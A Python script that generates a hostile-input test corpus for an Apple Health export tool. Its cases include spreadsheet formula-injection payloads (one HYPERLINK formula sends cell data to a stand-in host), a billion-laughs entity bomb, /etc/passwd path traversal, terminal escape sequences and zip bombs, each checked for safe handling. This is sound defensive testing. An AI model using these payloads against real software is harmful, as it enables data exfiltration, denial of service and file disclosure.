#!/usr/bin/env python3
"""Makes the hostile-input corpus: one folder per case under pass/ and fail/, each holding its
input and case.json (the command, the exit status, a fragment of the message, the rows written).

    python3 Tests/HealthExporterCLITests/Corpus/make-corpus.py

The output is deterministic (zip archives carry a fixed date), so running it again changes nothing
unless a case changed. HostileCorpusTests runs every case; scripts/fuzz seeds its targets from them.
"""
import json
import os
import shutil
import zipfile

ROOT = os.path.dirname(os.path.abspath(__file__))
EXPORT = ["export", "{input}", "--all", "--metrics", "weight,steps", "-o", "{output}"]
LABS = ["export", "{input}", "--all", "--metrics", "none", "--labs", "all", "-o", "{output}"]
INSPECT = ["inspect", "{input}"]
PROFILE = ["profile", "{input}", "-o", "{output}"]
DATABASE = ["database", "{input}", "-o", "{output}"]

DOCTYPE = """<!DOCTYPE HealthData [
<!-- HealthKit Export Version: 14 -->
<!ELEMENT HealthData (ExportDate,Me,(Record|Correlation|Workout|ActivitySummary|ClinicalRecord)*)>
]>
"""


def document(body, doctype=True):
    text = '<?xml version="1.0" encoding="UTF-8"?>\n'
    if doctype:
        text += DOCTYPE
    text += '<HealthData locale="en_US">\n <ExportDate value="2026-01-20 07:00:00 -0500"/>\n'
    text += body
    if not body.endswith("\n"):
        text += "\n"
    return text + "</HealthData>\n"


def record(kind, value, unit="count", source="Watch", start="2026-01-09 11:00:00 -0500", extra="", children=""):
    text = (f' <Record type="HKQuantityTypeIdentifier{kind}" sourceName="{source}" unit="{unit}" '
            f'startDate="{start}" endDate="{start}" value="{value}"{extra}')
    return text + (f">\n{children} </Record>\n" if children else "/>\n")


STEPS = record("StepCount", "5432")
WEIGHT = record("BodyMass", "80", unit="kg", source="Withings", start="2026-01-09 07:00:00 -0500")


def clinical(path, source="Lab", identifier="1"):
    return (f' <ClinicalRecord type="Observation" identifier="{identifier}" sourceName="{source}" '
            f'fhirVersion="4.0.1" receivedDate="2026-01-16 09:00:00 -0500" resourceFilePath="{path}"/>\n')


def observation(value="113", unit="mg/dL", date="2017-10-17T20:00:00Z", code="2089-1", extra=""):
    return ('{"resourceType":"Observation","status":"final",'
            f'"code":{{"coding":[{{"system":"http://loinc.org","code":"{code}"}}],"text":"LDL"}},'
            f'"effectiveDateTime":"{date}","valueQuantity":{{"value":{value},"unit":"{unit}"}}{extra}}}')


def profile(samples, extra=""):
    body = ",".join(samples)
    return ('{"metaData":{"type":"JsonSingleDocExportTarget","version":"1.0.0","profileName":"corpus"}'
            f'{extra},"HKQuantityTypeIdentifierStepCount":[{body}]}}\n')


def sample(sdate="1768000000000", value="5432", source="Watch", extra=""):
    return f'{{"sdate":{sdate},"value":{value},"unit":"count","sourceName":"{source}"{extra}}}'


CASES = []


def case(folder, about, arguments, exit, message="", rows=None, files=None, zipped=None, **more):
    """Adds a case: `files` maps names in the case folder (input.xml, input/export.xml, …) to text
    or bytes; `zipped` maps names inside input.zip to text or bytes."""
    CASES.append((folder, about, arguments, exit, message, rows, files or {}, zipped, more))


# MARK: export.xml

case("pass/xml/value-309-digits", "a weight of 309 digits is a counted skip, not a number written",
     EXPORT, 0, "value is out of range (a magnitude of 10^15 or more)", 1,
     {"input.xml": document(record("BodyMass", "1" + "0" * 308, unit="kg") + STEPS)})
case("pass/xml/value-infinite", "inf, -inf and nan are not numbers", EXPORT, 0, "value is not a number", 1,
     {"input.xml": document(record("BodyMass", "inf", unit="kg") + record("BodyMass", "-inf", unit="kg")
                            + record("BodyMass", "nan", unit="kg") + STEPS)},
     absent=[",inf,", ",-inf,", ",nan,"])
case("pass/xml/weight-overflows-in-pounds", "1e308 kg would be infinite in pounds; it is out of range",
     EXPORT, 0, "value is out of range", 1,
     {"input.xml": document(record("BodyMass", "1e308", unit="kg") + STEPS)}, absent=["inf"])
case("pass/xml/year-0000", "a date in the year 0000 is a counted skip", EXPORT, 0,
     "startDate is outside the years 1900 to 2199", 1,
     {"input.xml": document(record("BodyMass", "80", unit="kg", start="0000-01-01 00:00:00 +0000") + STEPS)})
case("pass/xml/year-9999", "a date in the year 9999 is a counted skip", EXPORT, 0,
     "startDate is outside the years 1900 to 2199", 1,
     {"input.xml": document(record("StepCount", "7", start="9999-12-31 23:59:59 +0000") + STEPS)})
case("pass/xml/negative-zero", "a weight of -0 is written 0.00, never -0.00", EXPORT, 0, "", 2,
     {"input.xml": document(record("BodyMass", "-0", unit="kg") + STEPS)},
     lines=["2026-01-09 11:00:00,Weight,,0.00,lbs,Watch,"], absent=["-0.00"])
case("pass/xml/negative-weight", "a weight below zero is a counted skip", EXPORT, 0,
     "Weight below zero, which no reading can be", 1,
     {"input.xml": document(record("BodyMass", "-0.001", unit="kg") + STEPS)}, absent=["-0.00"])
case("pass/xml/duplicated-attribute", "a record with its value twice is dropped, not read as the last",
     EXPORT, 0, "a Record element with the attribute 'value' twice; the element was read past", 1,
     {"input.xml": document(record("BodyMass", "80", unit="kg", extra=' value="999"') + STEPS)})
case("pass/xml/too-many-attributes", "a record with 1,001 attributes is dropped", EXPORT, 0,
     "a Record element with more than 1,000 attributes in one tag; the element was read past", 1,
     {"input.xml": document(record("BodyMass", "80", unit="kg",
                                   extra="".join(f' a{i}="{i}"' for i in range(1001))) + STEPS)})
case("pass/xml/formula-source", "a source named like a formula is written after a quote", EXPORT, 0, "", 1,
     {"input.xml": document(record("StepCount", "5432", source="=HYPERLINK(&quot;http://x.test/?&quot;&amp;A1,&quot;Open&quot;)"))},
     lines=['2026-01-09 11:00:00,Steps,,5432,steps,"\'=HYPERLINK(""http://x.test/?""&A1,""Open"")",'])
case("pass/xml/formula-sources", "+, -, @, tab and carriage return start a formula too", EXPORT, 0, "", 5,
     {"input.xml": document(record("StepCount", "1", source="+1+cmd|' /C calc'!A0")
                            + record("StepCount", "2", source="-2+3")
                            + record("StepCount", "3", source="@SUM(1+1)")
                            + record("StepCount", "4", source="&#9;=1")
                            + record("StepCount", "5", source="&#13;=1"))},
     lines=["2026-01-09 11:00:00,Steps,,1,steps,'+1+cmd|' /C calc'!A0,",
            "2026-01-09 11:00:00,Steps,,2,steps,'-2+3,",
            "2026-01-09 11:00:00,Steps,,3,steps,'@SUM(1+1),",
            "2026-01-09 11:00:00,Steps,,4,steps,'\t=1,"])
case("pass/xml/formula-source-raw-text", "--raw-text writes a formula as read", EXPORT + ["--raw-text"], 0, "", 1,
     {"input.xml": document(record("StepCount", "5432", source="=1+1"))},
     lines=["2026-01-09 11:00:00,Steps,,5432,steps,=1+1,"])
case("pass/xml/terminal-escapes-inspect", "ESC and BEL in a source name reach inspect escaped", INSPECT, 0, "",
     None, {"input.xml": document(record("StepCount", "5432", source="Watch&#27;]0;owned&#7;&#27;[2J"))},
     stdout="Watch\\x1B]0;owned\\x07\\x1B[2J", absent=["\u001b", "\u0007"])
case("pass/xml/control-characters-kept", "U+000B in a source name is kept in the CSV, as the export holds it",
     EXPORT, 0, "", 1, {"input.xml": document(record("StepCount", "5432", source="Watch&#11;Phone"))},
     lines=["2026-01-09 11:00:00,Steps,,5432,steps,Watch\u000bPhone,"])
case("fail/xml/nul-in-name", "NUL inside an element name is an error with its place", EXPORT, 65,
     "line 4, column 6: unexpected byte 0x0, expected an attribute name or '>'",
     files={"input.xml": document(' <Rec\0ord type="x"/>\n', doctype=False)})
case("fail/xml/nul-in-value", "a raw NUL inside a value is an error", EXPORT, 65,
     "a NUL byte in the value of attribute 'sourceName'; the file is damaged",
     files={"input.xml": document(record("StepCount", "1", source="Wat\0ch"), doctype=False)})
case("fail/xml/deep-nesting", "300 nested elements are refused before memory grows", EXPORT, 65,
     "elements nested more than 256 deep; the file is damaged or not an export",
     files={"input.xml": document("<a>" * 300 + "</a>" * 300, doctype=False)})
LAUGHS = "".join(f' <!ENTITY lol{i} "{("&lol" + str(i - 1) + ";") * 10}">\n' for i in range(1, 10))
case("fail/xml/entity-expansion", "entities are never expanded: a billion laughs is an unknown entity",
     EXPORT, 65, "unknown entity '&lol9;'",
     files={"input.xml": '<?xml version="1.0"?>\n<!DOCTYPE HealthData [\n <!ENTITY lol0 "lol">\n' + LAUGHS
                         + ']>\n<HealthData locale="en_US">\n' + record("StepCount", "1", source="&lol9;")
                         + "</HealthData>\n"})
case("fail/xml/terminal-escapes-in-error", "an error quoting the input shows its ESC escaped", EXPORT, 65,
     "unknown entity '&\\x1B]0;'",
     files={"input.xml": document(record("StepCount", "1", source="&\u001b]0;x\u0007;"), doctype=False)},
     absent=["\u001b"])
case("fail/xml/truncated", "a file cut short says so, with where the root opened", EXPORT, 65,
     "the file ends before <HealthData> (opened at line 2) is closed; it may be truncated",
     files={"input.xml": document(STEPS, doctype=False)[:-len("</HealthData>\n")]})
case("fail/xml/not-health-data", "another root element is not an export", EXPORT, 65,
     "the root element is <gpx>, not <HealthData>",
     files={"input.xml": '<?xml version="1.0"?>\n<HealthData/>\n'.replace("HealthData/", "gpx/")
            + "<!-- <HealthData -->\n"})

# MARK: zip archives


def fhir_text(size):
    """An Observation of `size` bytes or so, most of it one compressible note."""
    head = observation()
    return head[:-1] + ',"note":[{"text":"' + "a" * max(0, size - len(head) - 22) + '"}]}'


case("pass/zip/one-file-many-records", "200 clinical records naming one 16 MB file read it once", LABS, 0,
     "a clinical record whose file an earlier record names too; it was read once", 1,
     zipped={"apple_health_export/export.xml": document("".join(
         clinical("/clinical-records/big.json", identifier=str(i)) for i in range(200))),
         "apple_health_export/clinical-records/big.json": fhir_text(16_000_000)})
case("pass/zip/resource-bomb", "a small archive's files may not inflate past its budget", LABS, 0,
     "a clinical record whose file was not read: the files the records name inflate to more than", 12,
     zipped=dict([("apple_health_export/export.xml", document("".join(
         clinical(f"/clinical-records/{i}.json", identifier=str(i)) for i in range(100))))]
         + [(f"apple_health_export/clinical-records/{i}.json", fhir_text(2_000_000)) for i in range(100)]))
case("pass/zip/resource-too-large", "a FHIR file over 16 MiB is a counted skip, not the end of the export",
     LABS, 0, "a clinical record whose file is larger than 16 MiB; it was not read", 1,
     zipped={"apple_health_export/export.xml": document(clinical("/clinical-records/big.json")
                                                        + clinical("/clinical-records/ok.json", identifier="2")),
             "apple_health_export/clinical-records/big.json": fhir_text(17 << 20),
             "apple_health_export/clinical-records/ok.json": observation()})
case("pass/zip/many-metadata-entries", "a record with 100,000 metadata entries is dropped, its memory bounded",
     EXPORT, 0, "a Record element with more than 10,000 children; the element was read past", 1,
     zipped={"apple_health_export/export.xml": document(record(
         "BodyMass", "80", unit="kg",
         children='  <MetadataEntry key="HKMetadataKeySyncVersion" value="1"/>\n' * 100_000) + STEPS)})
case("pass/zip/traversal-paths", "a record's file path that leaves the export is never followed", LABS, 0,
     "a clinical record whose resourceFilePath leaves the export", 1,
     zipped={"apple_health_export/export.xml": document(clinical("/../../etc/passwd")
                                                        + clinical("/clinical-records/ok.json", identifier="2")),
             "../../etc/passwd": "root:x:0:0::/root:/bin/sh\n",
             "apple_health_export/clinical-records/ok.json": observation()})
case("fail/zip/two-exports", "two export.xml are named so that either can be chosen", EXPORT, 65,
     "holds several Health exports ({input}:apple_health_export/export.xml, {input}:export.xml). Pass the one to read, such as {input}:apple_health_export/export.xml.",
     zipped={"apple_health_export/export.xml": document(STEPS), "export.xml": document(WEIGHT)})
case("fail/zip/duplicate-export-xml", "two entries of one name make the archive malformed, named", EXPORT, 65,
     "is a damaged zip archive: it holds two entries named 'apple_health_export/export.xml' (entry 2 is the second)",
     zipped=[("apple_health_export/export.xml", document(STEPS)), ("apple_health_export/export.xml", document(WEIGHT))])
case("fail/zip/duplicate-clinical-file", "a clinical file given twice is not chosen silently", LABS, 65,
     "it holds two entries named 'apple_health_export/clinical-records/o.json' (entry 3 is the second)",
     zipped=[("apple_health_export/export.xml", document(clinical("/clinical-records/o.json"))),
             ("apple_health_export/clinical-records/o.json", observation()),
             ("apple_health_export/clinical-records/o.json", observation(value="90"))])
case("fail/zip/size-lies", "an entry that inflates past its declared size is refused, a bomb bounded",
     EXPORT, 65, "holds more than the", zipped={"apple_health_export/export.xml": "LIE"})
case("fail/zip/not-an-export", "an archive without a health XML is not an export", EXPORT, 65,
     "it holds no XML file whose root is <HealthData> (export.xml)",
     zipped={"apple_health_export/export_cda.xml": "<ClinicalDocument/>"})

# MARK: FHIR resources


def fhir_case(folder, about, resource, message, rows, **more):
    case(folder, about, LABS, 0, message, rows,
         {"input/export.xml": document(clinical("/clinical-records/a.json")
                                       + clinical("/clinical-records/ok.json", identifier="2")),
          "input/clinical-records/a.json": resource,
          "input/clinical-records/ok.json": observation(value="90")}, **more)


fhir_case("pass/fhir/value-out-of-range", "a lab value of 1e300 is a counted skip", observation(value="1e300"),
          "an observation whose value is out of range (a magnitude of 10^15 or more)", 1)
fhir_case("pass/fhir/year-10000", "a date in the year 10000 is not ISO 8601", observation(date="10000-01-01"),
          "an observation whose date is not ISO 8601", 1)
fhir_case("pass/fhir/year-0001", "a date in the year 0001 is outside the years read", observation(date="0001-01-01T00:00:00Z"),
          "an observation whose date is outside the years 1900 to 2199", 1)
fhir_case("pass/fhir/number-5000-digits", "a 5,000-digit number says what is wrong with it",
          observation(value="1" * 5000), "a clinical record whose file is not valid JSON: a number longer than 1,024 characters", 1)
fhir_case("pass/fhir/number-too-large", "a number too large for a double says so",
          observation(value="1" * 400), "a clinical record whose file is not valid JSON: the number '1111", 1)
fhir_case("pass/fhir/nul-in-string", "a NUL inside a FHIR string is a counted skip, never written",
          observation(unit="mg\\u0000dL"), "a clinical record whose file is not valid JSON: a NUL character", 1,
          absent=["\u0000"])
fhir_case("pass/fhir/formula-unit", "a lab unit like a formula is written after a quote",
          observation(unit="=cmd|' /C calc'!A0"), "", 2,
          lines=["2017-10-17 16:00:00,LDL Cholesterol,2089-1,113,'=cmd|' /C calc'!A0,Lab,"])
fhir_case("pass/fhir/deep-nesting", "a resource nested 600 deep is a counted skip",
          "[" * 600 + "]" * 600, "a clinical record whose file is not valid JSON: objects and arrays nested more than 512 deep", 1)
case("fail/fhir/truncated-export", "a clinical-record export cut short is still an error", LABS, 65,
     "it may be truncated", files={"input/export.xml": document(clinical("/clinical-records/a.json"))[:-14],
                              "input/clinical-records/a.json": observation()})

# MARK: JSON profiles

case("pass/profile/sdate-1e300", "a sample dated 1e300 ms is a counted skip, not a crash", EXPORT, 0,
     "a sample whose sdate is outside the years 1900 to 2199", 1,
     {"input.json": profile([sample(sdate="1e300"), sample()])})
case("pass/profile/sdate-1e300-inspect", "inspect of a sample dated 1e300 ms", INSPECT, 0, "",
     None, {"input.json": profile([sample(sdate="1e300"), sample()])}, stdout="a sample whose sdate is outside")
case("pass/profile/sdate-1e300-profile", "a profile of a profile dated 1e300 ms leaves nothing behind",
     PROFILE, 0, "", None, {"input.json": profile([sample(sdate="1e300"), sample()])})
case("pass/profile/years-out-of-range", "the years 0000, 10000 and 292278994 are counted skips", EXPORT, 0,
     "a sample whose sdate is outside the years 1900 to 2199", 1,
     {"input.json": profile([sample(sdate="-62167219200000"), sample(sdate="253402300800000"),
                             sample(sdate="9223372036854775807"), sample()])})
case("pass/profile/value-out-of-range", "a value of 1e300 is a counted skip", EXPORT, 0,
     "a quantity whose value is out of range", 1, {"input.json": profile([sample(value="1e300"), sample()])})
case("pass/profile/date-of-birth-1e300", "a date of birth of 1e300 ms is left out", INSPECT, 0, "", None,
     {"input.json": profile([sample()], extra=',"userData":{"dateOfBirth":1e300,"biologicalSex":1}')})
case("pass/profile/formula-source", "a profile's source named like a formula", EXPORT, 0, "", 1,
     {"input.json": profile([sample(source="@SUM(A1)")])},
     lines=["2026-01-09 18:06:40,Steps,,5432,steps,'@SUM(A1),"])
case("pass/profile/century-sample-report", "one sample from 1900 to 2199 is a counted skip in the report, never a page of centuries",
     ["report", "{input}", "--all", "-o", "{output}"], 0,
     "skipped 1 record: 1 × Steps record longer than 31 days (first at {input}, byte 127)", None,
     {"input.json": profile([sample(sdate="-2208988800000", extra=',"edate":7240000000000'), sample()])})
case("pass/profile/century-sample-summary", "one sample from 1900 to 2199 is a counted skip in hourly summaries",
     ["summary", "{input}", "--all", "--period", "hour", "-o", "{output}"], 0,
     "1 × Steps record longer than 31 days", 1,
     {"input.json": profile([sample(sdate="-2208988800000", extra=',"edate":7240000000000'), sample()])})
case("pass/profile/century-sample-database", "one sample from 1900 to 2199 gives no summary rows in the database",
     DATABASE, 0, "summarized without 1 record: 1 × Steps record longer than 31 days (first at {input}, byte 127)", None,
     {"input.json": profile([sample(sdate="-2208988800000", extra=',"edate":7240000000000'), sample()])},
     sql=["select count(*) from records; select period, value from summaries order by period;",
          "2\nday|5432.0\nmonth|5432.0\nweek|5432.0\n"])
IMPOSSIBLE_WORKOUTS = ('{"metaData":{"type":"JsonSingleDocExportTarget","version":"1.0.0","profileName":"corpus"},'
                       '"HKWorkoutTypeIdentifier":['
                       '{"workoutActivityType":37,"sdate":1768000000000,"edate":1768003600000,"totalEnergyBurned":-1e300,"sourceName":"Watch"},'
                       '{"workoutActivityType":37,"sdate":1768000000000,"edate":1768003600000,"duration":-3600,"sourceName":"Watch"},'
                       '{"workoutActivityType":37,"sdate":1768003600000,"edate":1768000000000,"sourceName":"Watch"},'
                       '{"workoutActivityType":37,"sdate":1768000000000,"edate":1768003600000,"duration":3600,"totalDistance":5000,"sourceName":"Watch"}],'
                       '"HKQuantityTypeIdentifierStepCount":[' + sample(extra=',"edate":1767990000000') + ","
                       + sample(value="5e-324") + "]}\n")
case("pass/profile/impossible-values-convert", "workouts below zero or ending before they start are counted skips in convert",
     ["convert", "{input}", "-o", "{output}", "--format", "xml"], 0,
     "skipped 4 records: 1 × a workout whose totalEnergyBurned is out of range (a magnitude of 10^15 or more) "
     "(first at {input}, byte 117), 1 × a workout whose duration is below zero (first at {input}, byte 236), "
     "1 × a workout that ends before it starts (first at {input}, byte 345), "
     "1 × a record that ends before it starts (first at {input}, byte 604).",
     None, {"input.json": IMPOSSIBLE_WORKOUTS},
     lines=[' <Record type="HKQuantityTypeIdentifierStepCount" sourceName="Watch" unit="count" '
            'startDate="2026-01-09 18:06:40 -0500" endDate="2026-01-09 18:06:40 -0500" value="5e-324"/>'],
     absent=["0.00000000000"])
case("pass/profile/impossible-values-database", "workouts below zero or ending before they start are counted skips in the database",
     DATABASE, 0, "1 × a workout whose duration is below zero", None, {"input.json": IMPOSSIBLE_WORKOUTS},
     sql=["select count(*) from workouts; select count(*) from records;", "1\n1\n"])
case("fail/profile/nul-in-string", "a NUL inside a profile's string is an error with its place", EXPORT, 65,
     "at HKQuantityTypeIdentifierStepCount[0].sourceName: a NUL character (\\u0000) in a string",
     files={"input.json": profile([sample(source="Wa\\u0000tch")])})
case("fail/profile/number-5000-digits", "a 5,000-digit number is refused as too long", EXPORT, 65,
     "a number longer than 1,024 characters; the file is damaged",
     files={"input.json": profile([sample(value="9" * 5000)])})
case("fail/profile/deep-nesting", "userData nested 600 deep is refused", EXPORT, 65,
     "objects and arrays nested more than 512 deep",
     files={"input.json": profile([sample()], extra=',"userData":' + "[" * 600 + "]" * 600)})
case("fail/profile/not-an-object", "a JSON array is not a profile", EXPORT, 65,
     "is not an Apple Health export", files={"input.json": "[1,2,3]\n"})
case("fail/profile/truncated", "a profile cut short says so", EXPORT, 65, "the file may be truncated",
     files={"input.json": profile([sample()])[:-3]})
case("fail/profile/terminal-escapes", "an unsupported profile type quoting ESC shows it escaped", EXPORT, 65,
     "the profile type is 'x\\x1B[31my'",
     files={"input.json": '{"metaData":{"type":"x\\u001b[31my"}}\n'}, absent=["\u001b"])

# MARK: the settings file


def settings_case(folder, about, settings, message, exit=0, rows=1, **more):
    case(folder, about, EXPORT, exit, message, rows, {"input.xml": document(STEPS), "settings.json": settings},
         settings=True, **more)


settings_case("pass/settings/last-days-huge", "a saved range of 3e15 days is refused and the defaults apply",
              '{"range": "last-days 3000000000000000"}\n',
              "expected a whole number of days from 1 to 110000 (all for no limit); it is ignored")
settings_case("pass/settings/nul-in-output", "a NUL inside a saved folder is refused, never cut short",
              '{"output": "/tmp\\u0000/elsewhere"}\n', "a NUL character (\\u0000) in a string")
settings_case("pass/settings/terminal-escapes", "a saved value with ESC is reported escaped",
              '{"weight-unit": "\\u001b[31mkg"}\n', "invalid value '\\x1B[31mkg'", absent=["\u001b"])
settings_case("pass/settings/not-json", "a settings file that is not JSON is ignored", "weight-unit=kg\n",
              "it is ignored")
settings_case("pass/settings/deep-nesting", "a settings file nested 600 deep is ignored",
              "[" * 600 + "]" * 600, "nested more than 512 deep")
settings_case("pass/settings/duplicate-key", "a key given twice is reported, naming it, and the file ignored",
              '{"sort": "asc", "sort": "desc"}\n', "gives 'sort' twice; keep one")
case("fail/settings/corrupt-not-overwritten", "a settings file that cannot be read is never overwritten",
     ["settings", "set", "weight-unit", "kg"], 73, "settings reset",
     files={"input.xml": document(STEPS), "settings.json": '{"weight-unit": 7'}, settings=True)
case("fail/settings/usage-error-escaped", "a command-line value with ESC is shown escaped",
     EXPORT + ["--weight-unit", "\u001b[2Jkg"], 64, "invalid value '\\x1B[2jkg'",
     files={"input.xml": document(STEPS), "settings.json": "{}\n"}, settings=True, absent=["\u001b"])
case("fail/settings/last-days-huge-flag", "--last-days 3000000000000000 is a usage error, not a crash",
     ["export", "{input}", "--last-days", "3000000000000000", "-o", "{output}"], 64,
     "expected a whole number of days from 1 to 110000", files={"input.xml": document(STEPS), "settings.json": "{}\n"},
     settings=True)

# MARK: GPX routes (read by the database)


def workout(paths, start="2026-01-10 18:00:00 -0500"):
    refs = "".join(f'   <FileReference path="{path}"/>\n' for path in paths)
    return (f' <Workout workoutActivityType="HKWorkoutActivityTypeRunning" duration="20" durationUnit="min" '
            f'sourceName="Watch" startDate="{start}" endDate="{start}">\n'
            f'  <WorkoutRoute sourceName="Watch" startDate="{start}" endDate="{start}">\n{refs}  </WorkoutRoute>\n'
            ' </Workout>\n')


def gpx(points):
    return ('<?xml version="1.0" encoding="UTF-8"?>\n<gpx version="1.1" creator="Apple Health Export">\n'
            f' <trk><trkseg>\n{points} </trkseg></trk>\n</gpx>\n')


def trkpt(lat="40.7812", lon="-73.9665", ele="16.88", time="2026-01-10T23:00:00Z", extra=""):
    position = (f' lat="{lat}"' if lat is not None else "") + (f' lon="{lon}"' if lon is not None else "")
    return f'  <trkpt{position}{extra}><ele>{ele}</ele><time>{time}</time></trkpt>\n'


def route_case(folder, about, route, message, sql=None, paths=("/workout-routes/r.gpx",), **more):
    files = {"input/export.xml": document(workout(paths) + STEPS)}
    if route is not None:
        files["input/workout-routes/r.gpx"] = route
    case(folder, about, DATABASE, 0, message, None, files, sql=sql, **more)


route_case("pass/gpx/below-sea-level", "an elevation below sea level is kept as read",
           gpx(trkpt(ele="-430.5") + trkpt(ele="-0.25", time="2026-01-10T23:00:01Z")), "",
           sql=["select elevation_m from route_points order by time_unix", "-430.5\n-0.25\n"])
route_case("pass/gpx/point-without-position", "a point without lat and lon is a counted skip",
           gpx(trkpt(lat=None) + trkpt()), "a route point without a latitude and longitude",
           sql=["select count(*) from route_points", "1\n"])
route_case("pass/gpx/not-gpx", "a route file whose root is not gpx is reported, the export read",
           '<?xml version="1.0"?>\n<kml><Document/></kml>\n', "a workout route file that is not valid GPX",
           sql=["select count(*) from records", "1\n"])
route_case("pass/gpx/truncated", "a route cut short is reported, its points before the cut kept; the export is read",
           gpx(trkpt() + trkpt(time="2026-01-10T23:00:01Z"))[:-40],
           "a workout route file that is not valid GPX (the file ends before <time> (opened at line 5) is closed; it may be truncated)",
           sql=["select count(*) || ' ' || (select count(*) from workouts) from route_points", "1 1\n"])
route_case("pass/gpx/deep-nesting", "a route nested 300 deep is refused before memory grows",
           gpx("<a>" * 300 + "</a>" * 300), "elements nested more than 256 deep")
route_case("pass/gpx/entity-expansion", "entities in a route are never expanded: the route is a counted skip",
           '<?xml version="1.0"?>\n<!DOCTYPE gpx [\n <!ENTITY a "aaaaaaaaaa">\n' + LAUGHS.replace("lol", "b")
           + ']>\n' + gpx(trkpt(ele="&b9;")).split("\n", 1)[1], "unknown entity '&b9;'",
           sql=["select count(*) from route_points", "0\n"])
route_case("pass/gpx/route-leaves-export", "a route path that leaves the export is never followed", None,
           "a workout route whose file path leaves the export", paths=("/../../etc/passwd",))
route_case("pass/gpx/missing", "a route file that is not there is a counted skip", None,
           "a workout route whose file is missing")
route_case("pass/gpx/values-out-of-range", "numbers too large for a double or not numbers are left empty",
           gpx(trkpt(ele="1" + "0" * 400) + trkpt(ele="inf", time="2026-01-10T23:00:01Z")), "",
           sql=["select count(*), count(elevation_m) from route_points", "2|0\n"])
case("pass/gpx/one-file-many-workouts", "200 workouts naming one route file read it once", DATABASE, 0,
     "a workout route whose file an earlier record names too; it was read once", None,
     zipped={"apple_health_export/export.xml": document("".join(
         workout(["/workout-routes/big.gpx"], start=f"2026-01-{1 + i // 24:02d} {i % 24:02d}:00:00 -0500")
         for i in range(200))),
         "apple_health_export/workout-routes/big.gpx": gpx(trkpt() * 20_000)},
     sql=["select count(*) from route_points", "20000\n"])
case("pass/gpx/route-bomb", "a small archive's routes may not inflate past its budget", DATABASE, 0,
     "a workout route whose file was read in part: the files the records name inflate to more than", None,
     zipped=dict([("apple_health_export/export.xml", document("".join(
         workout([f"/workout-routes/{i}.gpx"], start=f"2026-01-{1 + i:02d} 08:00:00 -0500") for i in range(20))))]
         + [(f"apple_health_export/workout-routes/{i}.gpx", gpx(trkpt() * 40_000)) for i in range(20)]))
case("fail/gpx/route-as-input", "a route file named as the input is not an export", DATABASE, 65,
     "it is a GPX route, which an export holds in workout-routes/", files={"input.gpx": gpx(trkpt())})

# MARK: ECG recordings (read by the database)


def ecg(samples, classification="Sinus Rhythm"):
    return ('Name\nDate of Birth,"Feb 3, 1980"\nRecorded Date,2026-01-11 20:55:07 -0500\n'
            f'Classification,{classification}\nSymptoms,\nSoftware Version,2.0\nDevice,"Watch7,2"\n'
            'Sample Rate,512 hertz\n\n\nLead,Lead I\nUnit,µV\n\n' + samples)


def ecg_case(folder, about, recording, message, sql=None, **more):
    case(folder, about, DATABASE, 0, message, None,
         {"input/export.xml": document(STEPS), "input/electrocardiograms/ecg_2026-01-11.csv": recording},
         sql=sql, **more)


ecg_case("pass/ecg/negative-microvolts", "voltages below zero are kept as read", ecg("-107.825\n-0.5\n3\n"), "",
         sql=["select group_concat(microvolts) from ecg_samples", "-107.825,-0.5,3.0\n"])
ecg_case("pass/ecg/sample-not-a-number", "a sample that is not a number drops the recording, reported",
         ecg("1\n2\noops\n"), "an ECG file whose line 16 is not a number", sql=["select count(*) from ecgs", "0\n"])
ecg_case("pass/ecg/no-samples", "a recording without samples is reported", ecg(""), "",
         sql=["select count(*) from ecgs", "0\n"])
ecg_case("pass/ecg/nul-and-escapes", "NUL and ESC in a header are stored as text, never printed raw",
         ecg("1\n", classification="Sinus\u001b]0;x\u0007 Rhythm"), "",
         sql=["select length(classification) from ecgs", "18\n"])
ecg_case("pass/ecg/formula-classification", "a classification like a formula is stored as read (the database is not a spreadsheet)",
         ecg("1\n", classification="=1+cmd|' /C calc'!A0"), "",
         sql=["select classification from ecgs", "=1+cmd|' /C calc'!A0\n"])
case("pass/ecg/too-large", "a recording over 16 MiB is a counted skip", DATABASE, 0,
     "an ECG recording whose file is larger than 16 MiB; it was not read", None,
     zipped={"apple_health_export/export.xml": document(STEPS),
             "apple_health_export/electrocardiograms/ecg_2026-01-11.csv": ecg("1.5\n" * (17 << 18)),
             "apple_health_export/electrocardiograms/ecg_2026-01-12.csv": ecg("2\n")},
     sql=["select count(*) from ecgs", "1\n"])
ecg_case("pass/ecg/numbers-out-of-range", "a 400-digit sample drops the recording",
         ecg("1" * 400 + "\n"), "", sql=["select count(*) from ecg_samples", "0\n"])
case("fail/ecg/recording-as-input", "an ECG file named as the input is not an export", DATABASE, 65,
     "it is an ECG recording, which an export holds in electrocardiograms/", files={"input.csv": ecg("1\n")})

IMPOSSIBLE_XML = document(
    ' <Record type="HKQuantityTypeIdentifierStepCount" sourceName="Watch" unit="count" '
    'startDate="2026-01-09 11:00:00 -0500" endDate="2026-01-09 10:00:00 -0500" value="5"/>\n'
    + ' <Workout workoutActivityType="HKWorkoutActivityTypeRunning" duration="-3600" durationUnit="s" '
      'totalDistance="-5" totalDistanceUnit="km" sourceName="Watch" '
      'startDate="2026-01-09 11:00:00 -0500" endDate="2026-01-09 12:00:00 -0500"/>\n'
    + ' <Workout workoutActivityType="HKWorkoutActivityTypeRunning" totalEnergyBurned="-1e300" '
      'totalEnergyBurnedUnit="kcal" sourceName="Watch" '
      'startDate="2026-01-09 11:00:00 -0500" endDate="2026-01-09 12:00:00 -0500"/>\n'
    + WEIGHT)
case("pass/xml/impossible-values-database", "a record ending before it starts and workouts below zero are counted skips",
     DATABASE, 0,
     "skipped 3 records: 1 × a record that ends before it starts (first at {input}, line 8, column 2), "
     "1 × a workout whose duration is below zero (first at {input}, line 9, column 2), "
     "1 × a workout whose totalEnergyBurned is out of range (a magnitude of 10^15 or more) (first at {input}, line 10, column 2)",
     None, {"input.xml": IMPOSSIBLE_XML},
     sql=["select count(*) from workouts; select count(*) from records;", "0\n1\n"])
case("pass/xml/impossible-values-convert", "convert skips and counts what no record can be",
     ["convert", "{input}", "-o", "{output}", "--format", "xml"], 0, "1 × a workout whose duration is below zero", None,
     {"input.xml": IMPOSSIBLE_XML}, absent=["-3600", "-1e300", "HKWorkoutActivityTypeRunning"])
case("pass/xml/record-ending-before-start-csv", "the record CSV keeps a reading whose end is before its start",
     EXPORT, 0, "", 2, {"input.xml": IMPOSSIBLE_XML})

# MARK: the database as an input, and as an output of hostile text


def sqlite_file():
    import sqlite3
    import tempfile
    with tempfile.TemporaryDirectory() as folder:
        path = os.path.join(folder, "h.sqlite")
        connection = sqlite3.connect(path)
        connection.execute("create table records (id integer primary key, value real)")
